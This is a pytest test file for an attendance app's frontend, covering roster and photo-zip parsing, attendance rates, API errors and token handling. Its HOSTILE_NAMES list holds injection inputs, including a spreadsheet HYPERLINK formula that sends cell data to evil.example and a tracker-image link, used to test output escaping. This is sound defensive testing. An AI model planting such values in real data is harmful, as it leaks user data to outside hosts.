"""The frontend's pure logic: bulk roster + zip parsing, rates, CSV export, API error messages,
the bearer token on every request."""

from __future__ import annotations

import datetime as dt
import html
import io
import json
import re
import socket
import zipfile

import pytest
import requests

from attendance.domain.schemas import AttendanceRecord, JobView, RecognitionResult, Student
from attendance.frontend import ui
from attendance.frontend.api_client import (
    LOGIN_HINT,
    ApiClient,
    ApiError,
    JobAccepted,
    _error_from,
    parse,
)
from attendance.frontend.roster import (
    classes_of,
    parse_roster_csv,
    photo_batches,
    plan_bulk_enrollment,
    read_zip_photos,
    roster_class_problems,
    split_roster,
    student_for_photo,
)
from attendance.frontend.settings import FrontendSettings
from attendance.frontend.stats import (
    daily_rates,
    describe_days,
    describe_students,
    roster_sizes,
    student_rates,
)
from attendance.frontend.ui import WORD_JOINER, plain
from attendance.frontend.views.enroll import ALREADY, run_enrollments

D1, D2, D3 = dt.date(2026, 11, 2), dt.date(2026, 11, 3), dt.date(2026, 11, 4)


def make_zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def student(sid: str, name: str, *classes: str, embeddings: int = 1) -> Student:
    return Student(student_id=sid, name=name, class_ids=list(classes), embeddings=embeddings)


def record(sid: str, date: dt.date, class_id: str = "room-1", name: str | None = None):
    return AttendanceRecord(
        class_id=class_id,
        date=date,
        student_id=sid,
        name=name or sid.upper(),
        first_seen_at=dt.datetime(2026, 11, 2, 9, 0, tzinfo=dt.UTC),
        distance=0.2,
        job_id="a" * 32,
    )


# --- roster CSV --------------------------------------------------------------------------------


def test_csv_with_header_and_class_column():
    parsed = parse_roster_csv(
        "student_id,name,class_id\ns001,Ada Lovelace,room-1\ns002, Alan Turing ,room-2\n"
    )
    assert parsed.errors == []
    assert [(r.student_id, r.name, r.class_id) for r in parsed.rows] == [
        ("s001", "Ada Lovelace", "room-1"),
        ("s002", "Alan Turing", "room-2"),
    ]


def test_csv_without_header_uses_the_default_class_and_a_bom_is_ignored():
    parsed = parse_roster_csv(
        "\ufeffs001,Ada\n\n# a comment\ns002,Alan,room-9\n".encode(), default_class="room-1"
    )
    assert parsed.errors == []
    assert [(r.student_id, r.class_id, r.line) for r in parsed.rows] == [
        ("s001", "room-1", 1),
        ("s002", "room-9", 4),
    ]


def test_csv_columns_may_come_in_any_order_after_a_header():
    parsed = parse_roster_csv("name,student_id\nAda,s001\n", default_class="c")
    assert [(r.student_id, r.name) for r in parsed.rows] == [("s001", "Ada")]


def test_bad_csv_rows_are_reported_with_their_line_and_the_rest_kept():
    text = (
        "student_id,name,class_id\n"
        "s001,Ada,room-1\n"  # 2 ok
        "bad id,Bob,room-1\n"  # 3 invalid id
        "s003,,room-1\n"  # 4 no name
        "s004,Dora,room 1\n"  # 5 invalid class
        "s001,Ada again,room-1\n"  # 6 duplicate
        "s006\n"  # 7 too few columns
        "s007,Eve,room-1,extra\n"  # 8 too many
        "s008,Finn\n"  # 9 no class and no default
        's009,"Gil, Jr.",room-1\n'  # 10 ok: quoted comma
    )
    parsed = parse_roster_csv(text)
    assert [r.student_id for r in parsed.rows] == ["s001", "s009"]
    assert parsed.rows[1].name == "Gil, Jr."
    errors = parsed.errors
    assert [e.split(":")[0] for e in errors] == [f"line {n}" for n in (3, 4, 5, 6, 7, 8, 9)]
    assert "student_id 'bad id' must be" in errors[0]
    assert "name is empty" in errors[1]
    assert "class_id 'room 1'" in errors[2]
    assert "already on line 2" in errors[3]
    assert "no class_id" in errors[6]


def test_a_header_with_unknown_columns_is_refused_whole():
    parsed = parse_roster_csv("student_id,name,email\ns001,Ada,a@b.c\n", default_class="c")
    assert parsed.rows == [] and len(parsed.errors) == 1
    assert parsed.errors[0].startswith("line 1: the header must name")


def test_windows_1252_csv_is_read():
    parsed = parse_roster_csv("s001,Zoë\n".encode("cp1252"), default_class="c")
    assert parsed.rows[0].name == "Zoë"


# --- zip of photos -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path, expected",
    [
        ("s001.jpg", "s001"),
        ("s001_2.jpg", "s001"),
        ("s001-front.JPG", "s001"),
        ("s001 (3).jpg", "s001"),
        ("s001/xyz.jpg", "s001"),
        ("photos/s001/xyz.jpg", "s001"),
        ("photos/s001_3.png", "s001"),
        ("S001.jpg", "s001"),  # case is ignored when only one id fits
        ("ben_afflek_2.jpg", "ben_afflek"),  # ids with "_" keep their longest match
        ("ben_afflek.jpg", "ben_afflek"),
        ("s0011.jpg", None),
        ("s999.jpg", None),
        ("xyz.jpg", None),
    ],
)
def test_photo_names_map_to_students(path, expected):
    assert student_for_photo(path, ["s001", "s002", "ben_afflek", "ben"]) == expected


def test_zip_reading_skips_folders_mac_metadata_and_lists_non_photos():
    data = make_zip(
        {
            "s001.jpg": b"a",
            "class/s002/one.png": b"b",
            "__MACOSX/._s001.jpg": b"x",
            ".DS_Store": b"x",
            "notes.txt": b"hello",
        }
    )
    photos = read_zip_photos(data)
    assert photos.error is None
    assert sorted(photos.by_path) == ["class/s002/one.png", "s001.jpg"]
    assert photos.ignored == ["notes.txt"]


def test_not_a_zip_is_an_error():
    assert read_zip_photos(b"not a zip").error == "not a zip file"


def test_bulk_plan_matches_photos_and_lists_what_is_left_over():
    roster = "student_id,name\ns001,Ada\ns002,Alan\ns003,Grace\nbad id,X\n"
    archive = make_zip(
        {
            "s001.jpg": b"1",
            "s001_2.jpg": b"2",
            "s002/a.jpg": b"3",
            "s999.jpg": b"4",
            "readme.md": b"5",
        }
    )
    plan = plan_bulk_enrollment(roster.encode(), archive, default_class="room-1")
    assert [(e.student_id, e.class_id, [n for n, _ in e.photos]) for e in plan.entries] == [
        ("s001", "room-1", ["s001.jpg", "s001_2.jpg"]),
        ("s002", "room-1", ["a.jpg"]),
    ]
    assert [u.filename for u in plan.unmatched_photos] == ["s999.jpg"]
    assert plan.students_without_photos == ["s003"]
    assert plan.ignored_files == ["readme.md"]
    assert len(plan.csv_errors) == 1 and plan.csv_errors[0].startswith("line 5")
    problems = plan.problems
    assert any("s999.jpg" in p and "matches no student_id" in p for p in problems)
    assert any(p == "student s003: no photo in the zip (not enrolled)" for p in problems)


def test_a_roster_class_that_is_a_typo_or_new_stops_the_class_enrollment():
    archive = make_zip({"s001.jpg": b"1", "s002.jpg": b"2", "s003.jpg": b"3"})
    classes = ["room-1", "room-2"]

    def problems(roster: str, default: str | None = None, new_allowed: bool = False):
        plan = plan_bulk_enrollment(roster, archive, default_class=default)
        return roster_class_problems(plan.entries, classes, new_allowed)

    assert problems("s001,Ada,room-1\ns002,Alan,room-2\n") == []
    assert problems("s001,Ada,room-1\ns002,Alan\n", default="room-2") == []
    # Capitals make another class: refused even when new classes are allowed.
    [only] = problems("s001,Ada,Room-1\n", new_allowed=True)
    assert "class Room-1: there is a class room-1 already" in only
    # A class that is not there yet: only when the person said the roster may create classes.
    [only] = problems("s001,Ada,room-9\ns002,Alan,room-9\ns003,Grace,room-1\n")
    assert "names 1 class(es) that do not exist yet (room-9)" in only
    assert problems("s001,Ada,room-9\n", new_allowed=True) == []


def test_bulk_jobs_split_students_with_many_photos():
    archive = make_zip({f"s001_{i}.jpg": bytes([i]) for i in range(5)} | {"s002.jpg": b"x"})
    plan = plan_bulk_enrollment("s001,Ada\ns002,Alan\n", archive, default_class="c")
    jobs = [(entry.student_id, len(photos)) for entry, photos in plan.jobs(2)]
    assert jobs == [("s001", 2), ("s001", 2), ("s001", 1), ("s002", 1)]


def test_photo_batches_respect_count_and_bytes():
    photos = [(f"p{i}.jpg", b"x" * n) for i, n in enumerate([4, 4, 4, 9, 1, 1])]
    names = [[p[0] for p in batch] for batch in photo_batches(photos, 3, max_bytes=8)]
    # p3 alone is over the limit: it still gets a request, for the API to say why it refuses.
    assert names == [["p0.jpg", "p1.jpg"], ["p2.jpg"], ["p3.jpg"], ["p4.jpg", "p5.jpg"]]
    assert [len(b) for b in photo_batches(photos, 4)] == [4, 2]
    assert photo_batches([], 2) == []


# --- roster and rates --------------------------------------------------------------------------


def test_split_roster_sorts_by_name():
    roster = [student("s2", "bob", "c"), student("s1", "Ann", "c"), student("s3", "Cy", "c")]
    present, absent = split_roster(roster, ["s3", "s1", "s9"])
    assert [s.student_id for s in present] == ["s1", "s3"]
    assert [s.student_id for s in absent] == ["s2"]
    assert classes_of(roster + [student("s4", "D", "a", "c")]) == ["a", "c"]


def test_daily_rate_is_present_over_roster_size():
    roster = [student(f"s{i}", f"S{i}", "room-1") for i in range(4)] + [student("t", "T", "lab")]
    records = [
        record("s0", D1),
        record("s1", D1),
        record("s0", D2),
        record("s0", D2),  # the same student twice counts once
        record("t", D1, "lab"),
    ]
    rates = daily_rates(records, roster_sizes(roster))
    assert [(r.date, r.class_id, r.present, r.roster, r.rate) for r in rates] == [
        (D1, "lab", 1, 1, 1.0),
        (D1, "room-1", 2, 4, 0.5),
        (D2, "room-1", 1, 4, 0.25),
    ]


def test_the_charts_are_said_in_words():
    roster = [student(f"s{i}", f"S{i}", "room-1") for i in range(4)] + [student("t", "T", "lab")]
    records = [record("s0", D1), record("s1", D1), record("s0", D2), record("t", D1, "lab")]
    days = daily_rates(records, roster_sizes(roster))
    assert describe_days(days, with_rates=True) == (
        "Attendance rate on 2 day(s) in 2 class(es): highest 100 % (lab on 2026-11-02), "
        "lowest 25 % (room-1 on 2026-11-03)."
    )
    assert describe_days(days, with_rates=False) == (
        "Students present on 2 day(s) in 2 class(es): highest 2 present (room-1 on "
        "2026-11-02), lowest 1 present (lab on 2026-11-02)."
    )
    assert describe_days(days[:1], with_rates=True).endswith("highest 100 % (lab on 2026-11-02).")
    assert describe_days([], with_rates=True) == "No attendance in this range."
    rates = student_rates(records, roster, "room-1")
    assert describe_students(rates) == (
        "4 student(s); the lowest rate is S2's, 0 % (0 of 2 days); 3 below 80 %."
    )
    assert describe_students([]) == "No class met in this range."


def test_daily_rate_never_exceeds_one_when_the_roster_shrank():
    rates = daily_rates([record("s0", D1), record("gone", D1)], {"room-1": 1})
    assert rates[0].rate == 1.0 and rates[0].roster == 2
    assert daily_rates([], {"room-1": 3}) == []


def test_student_rate_is_days_present_over_days_the_class_met():
    roster = [
        student("s0", "Ann", "room-1"),
        student("s1", "Bob", "room-1", "lab"),
        student("s2", "Cy", "room-1"),
        student("s3", "Dee", "other"),
    ]
    records = [
        record("s0", D1),
        record("s0", D2),
        record("s0", D3),
        record("s1", D1),
        record("s1", D1, "lab"),
        record("old", D2, name="Old"),
    ]
    rates = {
        r.student_id: (r.present_days, r.class_days)
        for r in student_rates(records, roster, "room-1")
    }
    # room-1 met on 3 days; s3 is not in room-1; "old" left the roster but still has a rate.
    assert rates == {"s0": (3, 3), "s1": (1, 3), "s2": (0, 3), "old": (1, 3)}
    everywhere = {
        r.student_id: (r.present_days, r.class_days) for r in student_rates(records, roster)
    }
    # Without a class, s1's lab day counts too; s3's class never met, so s3 has no rate.
    assert everywhere["s1"] == (2, 4) and "s3" not in everywhere
    ordered = [r.student_id for r in student_rates(records, roster, "room-1")]
    assert ordered[0] == "s0" and ordered[-1] == "s2"


def test_only_present_and_late_count_as_attended():
    roster = [student(f"s{i}", f"S{i}", "room-1") for i in range(4)]
    records = [
        record("s0", D1),
        record("s1", D1).model_copy(update={"status": "late", "source": "manual"}),
        record("s2", D1).model_copy(update={"status": "excused", "source": "manual"}),
        record("s3", D1).model_copy(update={"status": "absent", "source": "manual"}),
        # Only excused on D2: the class met, nobody attended.
        record("s0", D2).model_copy(update={"status": "excused", "source": "manual"}),
        # Absent in one period and present in another: present that day.
        record("s1", D2).model_copy(update={"status": "absent", "period": "1"}),
        record("s1", D2).model_copy(update={"period": "2"}),
    ]
    rates = daily_rates(records, roster_sizes(roster))
    assert [(r.date, r.present, r.roster) for r in rates] == [(D1, 2, 4), (D2, 1, 4)]
    per_student = {
        r.student_id: (r.present_days, r.class_days)
        for r in student_rates(records, roster, "room-1")
    }
    assert per_student == {"s0": (1, 2), "s1": (2, 2), "s2": (0, 2), "s3": (0, 2)}


def test_the_table_shows_each_marks_status_period_and_source():
    from attendance.frontend.views.attendance import records_frame

    frame = records_frame(
        [
            record("s0", D1),
            record("s1", D1).model_copy(
                update={"status": "excused", "source": "manual", "period": "P3", "distance": None}
            ),
        ]
    )
    assert {"status", "period", "source"} <= set(frame.columns)
    shown = {row.student_id: (row.status, row.period, row.source) for row in frame.itertuples()}
    assert shown == {
        "s0": ("present", "whole day", "class photo"),
        "s1": ("excused", "P3", "by hand"),
    }
    assert "distance" not in frame.columns  # not a teacher's word


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A2,"details")',
    "**bold** [link](http://x)",
    "<b>x</b>",
    "![tracker](http://evil.example/p.png)",
    "# Heading",
    "- item",
    "1. first",
    "> quote",
    "`code`",
    "a_b_ c_",
    "~~gone~~",
    ":red[alarm] :material/warning: $x^2$",
    "| a | b |",
    "&amp; &lt;",
    "<http://x>",
    "back\\slash\\*",
    "O'Brien, Zoë (s1)",
    "",
]


@pytest.mark.parametrize("text", HOSTILE_NAMES)
def test_plain_markdown_renders_as_the_literal_text(text):
    markdown_it = pytest.importorskip("markdown_it")
    md = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"])
    rendered = md.render(plain(text)).strip()
    if not text:
        assert rendered == ""
        return
    # One paragraph of text: no tag inside it (no link, image, emphasis, code, HTML), and the
    # text is exactly what was typed.
    assert rendered.startswith("<p>") and rendered.endswith("</p>"), rendered
    inner = rendered[len("<p>") : -len("</p>")]
    assert "<" not in inner and html.unescape(inner).replace(WORD_JOINER, "") == text, rendered


# GitHub-flavoured Markdown's bare-address links (mdast-util-gfm-autolink-literal), which
# Streamlit applies to the text after escapes are read.
GFM_AUTOLINKS = [
    re.compile(r"(https?://|www(?=\.))[-.\w]+", re.I),
    re.compile(r"[-.\w+]+@[-\w]+(\.[-\w]+)+"),
]


@pytest.mark.parametrize(
    "text",
    [
        "see http://evil.example/x",
        "HTTPS://evil.example",
        "www.evil.example",
        "_www.evil.example",
        "mail a@evil.example",
        "mailto:a@evil.example",
    ],
)
def test_plain_leaves_no_bare_address_to_turn_into_a_link(text):
    shown = re.sub(r"\\(.)", r"\1", plain(text))  # what the Markdown parser leaves as text
    assert shown.replace(WORD_JOINER, "") == text
    assert not any(p.search(shown) for p in GFM_AUTOLINKS), shown
    assert plain(text, links=True).replace("\\", "") == text  # settings' URLs stay links


def test_plain_escapes_every_markdown_special_and_keeps_letters():
    assert plain("**x** [l](u) <b>") == r"\*\*x\*\* \[l\]\(u\) \<b\>"
    assert plain("Zoë Ng 42") == "Zoë Ng 42"
    assert plain("two\nlines") == "two lines"  # one line: no block can start mid-label
    assert plain(None) == "" and plain(3) == "3"


def test_the_example_roster_csv_parses_back():
    from attendance.frontend.views.enroll import CSV_EXAMPLE

    parsed = parse_roster_csv(CSV_EXAMPLE)
    assert parsed.errors == [] and [r.student_id for r in parsed.rows] == ["s001", "s002"]


# --- API errors become readable messages -------------------------------------------------------


def response(status: int, body: bytes, content_type: str = "application/json"):
    resp = requests.Response()
    resp.status_code = status
    resp._content = body
    resp.headers["Content-Type"] = content_type
    resp.reason = {
        200: "OK",
        202: "ACCEPTED",
        400: "BAD REQUEST",
        401: "UNAUTHORIZED",
        403: "FORBIDDEN",
        404: "NOT FOUND",
        409: "CONFLICT",
        502: "Bad Gateway",
        503: "SERVICE UNAVAILABLE",
    }[status]
    return resp


def api_error(code: str, message: str) -> bytes:
    return json.dumps({"error": {"code": code, "message": message}}).encode()


class FakeSession:
    """Answers every request with ``answer`` and remembers what was asked (a requests.Session
    as far as ApiClient uses one)."""

    def __init__(self, answer):
        self.answer = answer
        self.calls: list[tuple[str, str, dict]] = []

    def request(self, method, url, **kwargs):
        self.calls.append((method, url, kwargs))
        return self.answer


def test_the_apis_json_error_becomes_the_message():
    body = json.dumps({"error": {"code": "missing_name", "message": "name is required"}})
    exc = _error_from(response(400, body.encode()))
    assert (str(exc), exc.code, exc.status) == ("name is required", "missing_name", 400)


def test_a_non_json_error_is_summarised():
    exc = _error_from(response(502, b"<html><body>\n  Bad gateway\n</body></html>", "text/html"))
    assert str(exc) == (
        "The API answered HTTP 502 Bad Gateway: <html><body> Bad gateway </body></html>"
    )
    assert exc.code == "http_502"


def test_a_closed_port_says_the_api_is_not_reachable():
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    api = ApiClient(f"http://127.0.0.1:{port}/")
    with pytest.raises(ApiError) as info:
        api.model()
    assert info.value.unreachable
    assert str(info.value) == (
        f"The API at http://127.0.0.1:{port} is not reachable "
        "(connection refused). Is it running? `make run` starts it."
    )


def test_fields_a_newer_api_adds_are_ignored_at_any_depth():
    result = parse(
        RecognitionResult,
        {
            "class_id": "c",
            "date": "2026-11-02",
            "present": ["s1"],
            "unknown_faces": 0,
            "model_version": 3,
            "added_later": {"ms": 1},
            "photos": [{"filename": "a.jpg", "faces": [], "also_new": True}],
        },
        "a result",
    )
    assert result.present == ["s1"] and result.photos[0].filename == "a.jpg"


def test_a_response_missing_a_field_is_a_readable_error():
    with pytest.raises(ApiError) as info:
        parse(RecognitionResult, {"class_id": "c"}, "a result")
    assert str(info.value).startswith("The API sent a result this app does not understand: ")
    assert info.value.code == "bad_response"


# --- the API token -----------------------------------------------------------------------------

MODEL = {
    "version": 0,
    "model_name": "Facenet",
    "detector": "centerface",
    "metric": "cosine",
    "threshold": 0.4,
    "students": 0,
    "embeddings": 0,
    "updated_at": None,
    "pipeline": "Facenet/centerface-v1",
}


def test_every_request_carries_the_token_as_a_bearer_header():
    session = FakeSession(response(200, json.dumps(MODEL).encode()))
    api = ApiClient("http://api", token="s3cret", session=session)
    assert api.model().model_name == "Facenet"
    api.annotated("a" * 32, 0)  # the annotated photo too, though it is not JSON
    api.health()
    assert [c[2]["headers"] for c in session.calls] == [{"Authorization": "Bearer s3cret"}] * 3
    assert [c[1] for c in session.calls] == [
        "http://api/api/v1/model",
        f"http://api/api/v1/annotated/{'a' * 32}/0",
        "http://api/healthz",
    ]


def test_without_a_token_no_authorization_header_is_sent():
    session = FakeSession(response(200, b'{"status": "ok"}'))
    ApiClient("http://api", session=session).health()
    assert "Authorization" not in session.calls[0][2]["headers"]


def test_the_token_is_not_in_the_clients_repr():
    api = ApiClient("http://api", token="s3cret")
    assert "s3cret" not in repr(api) and "s3cret" not in str(api)


def test_401_with_a_token_says_it_is_not_valid():
    session = FakeSession(response(401, api_error("unauthorized", "the token is not valid")))
    with pytest.raises(ApiError) as info:
        ApiClient("http://api", token="wrong", session=session).model()
    exc = info.value
    assert (exc.code, exc.status, exc.unauthorized) == ("unauthorized", 401, True)
    assert str(exc) == (
        "The API token is not valid (the token is not valid). Log in again "
        "with a valid token in the sidebar."
    )
    assert "wrong" not in str(exc)


def test_401_without_a_token_says_how_to_log_in():
    session = FakeSession(
        response(
            401,
            api_error("unauthorized", "this route needs an 'Authorization: Bearer <token>' header"),
        )
    )
    with pytest.raises(ApiError) as info:
        ApiClient("http://api", session=session).students()
    assert info.value.code == "unauthorized"
    assert str(info.value) == f"Not logged in: the API needs a token. {LOGIN_HINT}"
    assert "username and password" in str(info.value)


def test_403_says_the_tokens_role_may_not_and_keeps_the_apis_reason():
    session = FakeSession(
        response(403, api_error("forbidden", "the viewer role may not do this; it needs admin"))
    )
    with pytest.raises(ApiError) as info:
        ApiClient("http://api", token="t", session=session).enroll(
            "s1", "Ann", "room-1", [("a.jpg", b"x")]
        )
    exc = info.value
    assert (exc.code, exc.status, exc.forbidden, exc.unauthorized) == (
        "forbidden",
        403,
        True,
        False,
    )
    assert str(exc) == (
        "Your token's role may not do this: the viewer role may not do this; "
        "it needs admin. Log in with another token in the sidebar if you need "
        "to."
    )


def test_403_for_a_class_says_the_token_is_limited_to_other_classes():
    session = FakeSession(
        response(403, api_error("class_forbidden", "this token may not access class 'room-2'"))
    )
    with pytest.raises(ApiError) as info:
        ApiClient("http://api", token="t", session=session).attendance(class_id="room-2")
    assert info.value.code == "class_forbidden"
    assert str(info.value).startswith(
        "Your token is limited to other classes: this token may not access class 'room-2'."
    )


# --- enrolling an id that is taken; adding photos; renaming --------------------------------------

JOB = {"job_id": "b" * 32, "status_url": f"/api/v1/jobs/{'b' * 32}"}


def test_enrolling_a_taken_id_is_a_student_exists_error_with_the_apis_message():
    message = (
        "student id 's1' is taken by a student enrolled already; to add photos to them "
        "use POST /api/v1/students/s1/photos, to rename them PATCH /api/v1/students/s1"
    )
    session = FakeSession(response(409, api_error("student_exists", message)))
    with pytest.raises(ApiError) as info:
        ApiClient("http://api", token="t", session=session).enroll(
            "s1", "Ann", None, [("a.jpg", b"x")]
        )
    exc = info.value
    assert (exc.student_exists, exc.status, exc.code, str(exc)) == (
        True,
        409,
        "student_exists",
        message,
    )
    assert not exc.forbidden and not exc.not_found


def test_add_photos_posts_the_photos_and_the_class_to_the_students_photos():
    session = FakeSession(response(202, json.dumps(JOB).encode()))
    api = ApiClient("http://api", token="t", session=session)
    job = api.add_photos("s1", [("a.jpg", b"1"), ("b.png", b"2")], "room-2")
    assert job.job_id == "b" * 32
    method, url, kwargs = session.calls[0]
    assert (method, url) == ("POST", "http://api/api/v1/students/s1/photos")
    assert kwargs["data"] == {"class_id": "room-2"}
    assert kwargs["files"] == [("photos", ("a.jpg", b"1")), ("photos", ("b.png", b"2"))]
    assert kwargs["headers"] == {"Authorization": "Bearer t"}
    api.add_photos("s.1_x-2", [("a.jpg", b"1")])  # no class: no class_id field at all
    assert session.calls[1][1] == "http://api/api/v1/students/s.1_x-2/photos"
    assert session.calls[1][2]["data"] == {}
    api.add_photos("a/b", [("a.jpg", b"1")])  # an id is one path segment, whatever it holds
    assert session.calls[2][1] == "http://api/api/v1/students/a%2Fb/photos"


def test_add_photos_to_nobody_is_student_not_found():
    session = FakeSession(response(404, api_error("student_not_found", "no student 's9'")))
    with pytest.raises(ApiError) as info:
        ApiClient("http://api", token="t", session=session).add_photos("s9", [("a.jpg", b"1")])
    assert (info.value.not_found, info.value.code, str(info.value)) == (
        True,
        "student_not_found",
        "no student 's9'",
    )


def test_rename_patches_the_name_and_returns_the_student():
    body = {"student_id": "s1", "name": "Ann Lee", "class_ids": ["room-1"], "embeddings": 3}
    session = FakeSession(response(200, json.dumps(body).encode()))
    api = ApiClient("http://api", token="t", session=session)
    assert api.rename("s1", "Ann Lee") == Student(**body)
    method, url, kwargs = session.calls[0]
    assert (method, url, kwargs["json"]) == (
        "PATCH",
        "http://api/api/v1/students/s1",
        {"name": "Ann Lee"},
    )
    assert kwargs["headers"] == {"Authorization": "Bearer t"}
    assert api.student("s1").embeddings == 3
    assert session.calls[1][:2] == ("GET", "http://api/api/v1/students/s1")


class ScriptedApi:
    """An ApiClient's enroll/add_photos as far as run_enrollments uses them: an id in
    ``taken`` is refused with 409, every other request is queued, and what was asked is kept."""

    def __init__(self, taken=()):
        self.taken = set(taken)
        self.calls: list[tuple[str, str, list[str]]] = []

    def _job(self, kind, sid, photos):
        self.calls.append((kind, sid, [n for n, _ in photos]))
        return JobAccepted(job_id=f"{len(self.calls):032x}", status_url="/x")

    def enroll(self, sid, name, class_id, photos):
        if sid in self.taken:
            self.calls.append(("refused", sid, [n for n, _ in photos]))
            raise ApiError(f"student id {sid!r} is taken", code="student_exists", status=409)
        return self._job("enroll", sid, photos)

    def add_photos(self, sid, photos, class_id=None):
        return self._job("add", sid, photos)


def finished(job_ids, state="succeeded"):
    now = dt.datetime(2026, 11, 2, tzinfo=dt.UTC)
    return {
        j: JobView(
            job_id=j,
            kind="enrollment",
            state=state,
            progress={"done": 1, "total": 1},
            created_at=now,
            updated_at=now,
            result={"student_id": "x", "accepted_photos": 1, "rejected": [], "model_version": 1}
            if state == "succeeded"
            else None,
        )
        for _, j in job_ids
    }


def photos(*names):
    return [(n, b"x") for n in names]


def test_a_student_with_many_photos_is_created_first_and_the_rest_added_after(monkeypatch):
    waits = []
    monkeypatch.setattr(
        ui, "wait_for_jobs", lambda api, jobs: waits.append([j for _, j in jobs]) or finished(jobs)
    )
    api = ScriptedApi(taken={"s2"})
    outcomes = run_enrollments(
        api,
        [
            ("s1", "Ann", "room-1", photos("a1", "a2", "a3", "a4", "a5")),
            ("s2", "Bob", "room-1", photos("b1", "b2", "b3")),  # enrolled already
            ("s3", "Cy", "room-1", photos("c1")),
        ],
        max_photos=2,
    )
    # First round: one request per student; s1's other photos are added once s1 exists.
    assert api.calls == [
        ("enroll", "s1", ["a1", "a2"]),
        ("refused", "s2", ["b1", "b2"]),
        ("enroll", "s3", ["c1"]),
        ("add", "s1", ["a3", "a4"]),
        ("add", "s1", ["a5"]),
    ]
    assert len(waits) == 2 and len(waits[0]) == 2 and len(waits[1]) == 2
    assert [(o.student_id, o.state, o.photos, o.added) for o in outcomes] == [
        ("s1", "succeeded", 2, False),
        ("s1", "succeeded", 2, True),
        ("s1", "succeeded", 1, True),
        ("s2", ALREADY, 3, False),
        ("s3", "succeeded", 1, False),
    ]
    assert outcomes[3].error == "student id 's2' is taken"


def test_when_a_students_first_job_fails_the_rest_of_their_photos_are_not_sent(monkeypatch):
    monkeypatch.setattr(ui, "wait_for_jobs", lambda api, jobs: finished(jobs, "failed"))
    api = ScriptedApi()
    [outcome] = run_enrollments(api, [("s1", "Ann", None, photos("a1", "a2", "a3"))], 2)
    assert api.calls == [("enroll", "s1", ["a1", "a2"])]
    assert outcome.state == "failed" and outcome.error.endswith("the other 1 photo were not sent")


def test_adding_photos_to_an_enrolled_student_never_enrolls(monkeypatch):
    monkeypatch.setattr(ui, "wait_for_jobs", lambda api, jobs: finished(jobs))
    api = ScriptedApi(taken={"s1"})
    outcomes = run_enrollments(
        api, [("s1", "Ann", "room-2", photos("a1", "a2", "a3"))], 2, add=True
    )
    assert api.calls == [("add", "s1", ["a1", "a2"]), ("add", "s1", ["a3"])]
    assert all(o.state == "succeeded" and o.added for o in outcomes)


def test_the_csv_export_is_the_apis():
    transport = FakeSession(response(200, "\ufeffclass_id,date\n".encode(), "text/csv"))
    client = ApiClient("http://api", token="t", session=transport)
    data = client.attendance_csv(class_id="room-1", date_from=D1, date_to=D2)
    assert data.decode("utf-8-sig") == "class_id,date\n"
    [(method, url, kwargs)] = transport.calls
    assert (method, url) == ("GET", "http://api/api/v1/attendance")
    assert kwargs["params"] == {
        "class_id": "room-1",
        "from": "2026-11-02",
        "to": "2026-11-03",
        "format": "csv",
    }


# --- the app's own settings ----------------------------------------------------------------------


def test_the_apps_settings_are_the_servers_names_and_defaults():
    from attendance.config.settings import Settings

    own = {"api_url", "api_token", "flower_url"}  # the app's alone: the server has no use for them
    assert own <= set(FrontendSettings.model_fields)
    assert not own & set(Settings.model_fields)
    for name, field in FrontendSettings.model_fields.items():
        if name in own:
            continue
        server = Settings.model_fields[name]
        assert (field.default, field.metadata) == (server.default, server.metadata), name
    assert FrontendSettings.model_config["env_prefix"] == Settings.model_config["env_prefix"]
    assert FrontendSettings.model_config["env_file"] == Settings.model_config["env_file"]


def test_the_app_reads_its_settings_and_ignores_the_stores(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)  # no .env
    monkeypatch.setenv("ATTENDANCE_RECORDS_URL", "nonsense://x")
    monkeypatch.setenv("ATTENDANCE_BLOB_STORE_URL", "nonsense://y")
    monkeypatch.setenv("ATTENDANCE_API_URL", "http://10.0.0.5:5000")
    monkeypatch.setenv("ATTENDANCE_API_TOKEN", "t0ken")
    monkeypatch.setenv("ATTENDANCE_MAX_UPLOAD_MB", "10")
    settings = FrontendSettings()
    assert (settings.api_url, settings.api_token) == ("http://10.0.0.5:5000", "t0ken")
    assert ui.request_bytes(settings) == int(10 * 1024 * 1024 * 0.9)
    (tmp_path / ".env").write_text("ATTENDANCE_MAX_ENROLL_PHOTOS=3\n")
    assert FrontendSettings().max_enroll_photos == 3
